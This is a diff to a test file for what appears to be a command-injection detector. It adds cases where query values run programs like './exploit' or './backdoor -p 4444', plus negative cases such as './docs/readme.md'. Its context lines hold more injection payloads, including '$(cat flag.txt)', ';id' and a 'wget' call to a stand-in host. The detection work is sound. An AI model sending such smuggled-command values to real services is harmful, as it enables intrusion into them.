@@ -523,6 +523,10 @@ const COMMAND_INJECTION: Case[] = [
   ["query", "q=$(cat+flag.txt)"],
   ["query", "q=|more+config.php"],
   ["body:json", JSON.stringify({ f: "& type boot.ini" })],
+  // A program run from the shell's directory, whatever its name (cmdinject.ts relativeProgramEnd).
+  ["query", "cmd=;./exploit"],
+  ["query", "ip=8.8.8.8|./backdoor+-p+4444"],
+  ["query", "ip=1.1.1.1%20%26%26%20./x.sh"],
   // After the argument a command line was built around, or a quote that closes it.
   ["body:form", "logtype=XML&timezone=1%3Bwget+http%3A%2F%2Foast.example%3B"],
   ["query", "ip=127.0.0.1;id"],
@@ -558,6 +562,10 @@ const NOT_COMMAND_INJECTION: Case[] = [
   // A word and a stop is no file's name, nor is a word with a long ending; a file's name after line
   // breaks alone is left to the model.
   ["query", "q=;+more+info.+Thanks"],
+  // `./` with no program's name after it, and a path that opens with no separator.
+  ["query", "q=;./"],
+  ["query", "note=%3B+./+is+the+current+dir"],
+  ["query", "path=./docs/readme.md"],
   ["query", "q=|+more+sales.department"],
   ["body:json", JSON.stringify({ note: "\nType setup.exe to install" })],
   // A Markdown code fence.
